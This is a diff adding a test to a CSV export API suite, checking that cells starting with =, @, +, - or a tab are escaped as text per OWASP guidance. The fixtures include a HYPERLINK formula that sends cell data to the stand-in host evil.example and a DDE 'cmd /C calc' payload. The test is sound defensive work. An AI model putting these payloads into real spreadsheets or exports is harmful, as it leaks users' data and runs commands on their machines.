@@ -91,4 +91,25 @@ describe("GET /api/esportazioni/disponibilita", () => {
     expect(nul.status).toBe(422);
     expect(await nul.json()).toMatchObject({ codice: "filtro_non_valido", campo: "cerca" });
   });
+
+  test("a text cell that would start a formula is written as text (OWASP), numbers stay numbers", async () => {
+    await t.pool.query(`INSERT INTO articoli (codice, descrizione) VALUES
+      ('FORMULA-1', '=HYPERLINK("http://evil.example/?x="&A1,"Dettagli")'),
+      ('FORMULA-2', '@SUM(1+1)*cmd|'' /C calc''!A0'),
+      ('FORMULA-3', '-2+3'),
+      ('FORMULA-4', '+39 051'),
+      ('FORMULA-5', E'\tnascosto')`);
+    const lines = (await chunks(await get("?cerca=formula-", manager)))
+      .join("")
+      .replace(/^\uFEFF/, "")
+      .trimEnd()
+      .split("\n");
+    expect(lines.slice(1)).toEqual([
+      `FORMULA-1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Dettagli"")";0;0;0;0`,
+      "FORMULA-2;'@SUM(1+1)*cmd|' /C calc'!A0;0;0;0;0",
+      "FORMULA-3;'-2+3;0;0;0;0",
+      "FORMULA-4;'+39 051;0;0;0;0",
+      "FORMULA-5;'\tnascosto;0;0;0;0",
+    ]);
+  });
 });
